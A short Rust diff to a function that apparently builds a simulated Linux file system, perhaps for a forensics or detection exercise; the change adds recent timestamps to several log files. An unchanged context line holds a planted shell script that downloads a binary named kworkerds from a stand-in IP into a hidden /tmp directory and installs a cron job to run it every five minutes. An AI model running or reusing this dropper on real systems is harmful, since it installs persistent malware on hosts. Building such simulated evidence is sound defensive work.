@@ -400,6 +400,15 @@ pub fn linux() -> Template {
         "#!/bin/sh\ncurl -s http://203.0.113.66/kworkerds -o /tmp/.X11-unix/kworkerds\nchmod +x /tmp/.X11-unix/kworkerds\n(crontab -l; echo '*/5 * * * * /tmp/.X11-unix/kworkerds') | crontab -\n",
     );
     t.touch(&k, 26 * 3600);
+    for (log, ago) in [
+        ("/var/log/syslog", 300),
+        ("/var/log/auth.log", 1_900),
+        ("/var/log/kern.log", 8_100),
+        ("/var/log/dpkg.log", 4 * 86_400),
+    ] {
+        let key = t.flavor.key_of(&t.flavor.components(log));
+        t.touch(&key, ago);
+    }
     big_files(&mut t);
     t.finish();
     t
